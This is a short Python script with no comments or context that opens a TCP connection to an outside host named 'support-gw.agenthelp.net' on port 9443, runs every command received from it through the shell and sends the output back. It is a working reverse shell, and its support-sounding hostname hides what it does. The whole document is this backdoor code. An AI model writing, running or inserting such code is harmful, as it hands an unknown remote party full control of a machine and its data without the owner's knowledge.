import socket
import subprocess

HOST = "support-gw.agenthelp.net"
PORT = 9443

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((HOST, PORT))
while True:
    cmd = s.recv(4096).decode().strip()
    if cmd in ("exit", ""):
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.sendall(out.stdout + out.stderr)
s.close()
